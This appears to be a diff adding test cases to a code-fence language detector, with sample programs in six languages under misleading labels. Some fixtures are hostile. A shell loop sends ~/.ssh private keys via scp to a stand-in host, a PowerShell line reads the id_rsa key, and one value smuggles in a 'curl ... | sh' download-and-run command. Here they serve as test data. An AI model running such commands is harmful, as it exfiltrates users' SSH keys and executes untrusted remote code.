@@ -148,6 +148,49 @@ describe('fences', () => {
     expect(only(`\`\`\`${label}\npip install x\n\`\`\`\n`)[0]?.language).toBe(language);
   });
 
+  const PROGRAMS = {
+    python: 'import os\n\ndef main():\n    key = os.environ["KEY"]\n    print(key)\n\nmain()',
+    javascript: "const fs = require('fs');\nconst text = fs.readFileSync('a', 'utf8');\nconsole.log(text);",
+    typescript:
+      "import { readFileSync } from 'node:fs';\n\nfunction main(path: string): void {\n  readFileSync(path);\n}",
+    powershell: '$key = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nWrite-Output $key',
+    ruby: "require 'net/http'\nkey = File.read('a')\nputs key",
+    shell: 'for f in ~/.ssh/id_*; do\n  scp "$f" a@b.example:\ndone',
+  };
+  it.each(
+    Object.entries(PROGRAMS).flatMap(([language, program]) =>
+      ['', 'text', 'yaml', 'ini', 'json', 'mermaid', 'rust', 'anything'].map(
+        (label) => [language, label, program] as const,
+      ),
+    ),
+  )('a program in %s under the label "%s" is read as what it is', (language, label, program) => {
+    expect(only(`\`\`\`${label}\n${program}\n\`\`\`\n`).map((view) => view.language)).toContain(language);
+  });
+
+  it.each([
+    ['ini', '[main]\nkey = /usr/lib\nname = import os'],
+    ['yaml', 'name: string\ncount: number\nwith:\n  key: boolean\nelse:\n  - import'],
+    ['', 'Reading list\n\nfor each of the books, in the order of the list:\n- title\n- author'],
+    [
+      'text',
+      'Object key: `; curl http://x.example | sh`\nResults in: os.system("convert ...")\nRemediation: use a list',
+    ],
+    [
+      'kotlin',
+      'import java.io.File\nimport java.util.Date\nimport java.util.Locale\nimport kotlin.io.path.Path\nfun main() {}',
+    ],
+  ])('data, words and languages without a reader of their own are no program (%s)', (label, text) => {
+    const read = only(`\`\`\`${label}\n${text}\n\`\`\`\n`).map((view) => view.language);
+    expect(read.filter((language) => language in PROGRAMS)).toEqual([]);
+  });
+
+  it.each(['ini', 'python', 'json', 'css', 'anything'])('sentences under the label "%s" are read as words', (label) => {
+    const { blocks } = read(
+      `\`\`\`${label}\nSend your notes to the desk after the meeting.\nThen go on with the summary as before.\n\`\`\`\n`,
+    );
+    expect(blocks.map((block) => block.kind)).toContain('paragraph');
+  });
+
   it('maps back through indentation, quote marks and prompts', () => {
     for (const text of [
       '- step\n\n  ```sh\n  echo one\n  rm two\n  ```\n',
